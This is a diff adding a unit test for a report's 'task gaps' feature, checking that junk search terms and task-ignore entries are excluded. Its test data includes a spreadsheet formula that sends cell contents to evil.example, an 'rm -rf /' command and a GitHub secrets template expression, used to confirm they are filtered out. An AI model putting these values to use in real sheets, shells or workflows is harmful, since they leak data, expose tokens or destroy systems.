@@ -69,6 +69,32 @@ describe('task gaps of a report', () => {
     expect(tasks.readInFull).toEqual({ search: true, category: true, page: true });
   });
 
+  it('sets aside junk terms and what task-ignore names (terms, categories, pages by site path), as the report does', () => {
+    const terms = [
+      term('refund', 40),
+      term('=HYPERLINK("https://evil.example/?q="&A1,"docs")', 39),
+      term('`rm -rf /`', 38),
+      term('${{ secrets.GITHUB_TOKEN }}', 37),
+      term('@acme/sdk install', 36),
+      term('SSO', 35),
+    ];
+    const conversations = {
+      complete: true,
+      byCategory: [row('billing', 12, 20), row('Internal Tools', 9, 10)],
+      byPath: [row('/guides/webhooks', 7, 10), row('/internal/runbook', 8, 10)],
+    };
+    const gaps = taskPeriodOf({
+      ...sources(terms, conversations),
+      taskIgnore: ['sso', 'internal*', '/INTERNAL/*'],
+    }).gaps;
+    expect(gaps.map((gap) => [gap.kind, gap.term])).toEqual([
+      ['search', 'refund'],
+      ['search', '@acme/sdk install'],
+      ['category', 'billing'],
+      ['page', '/guides/webhooks'],
+    ]);
+  });
+
   it('ranks a category most of whose questions go unanswered above a term searched more often', () => {
     // 31 of the period's 140 questions went unanswered in "account"; "pricing" failed 37 of 5,000 searches. Counted
     // against each other the term would come first (37 > 31); as shares of their own channel, the category does.
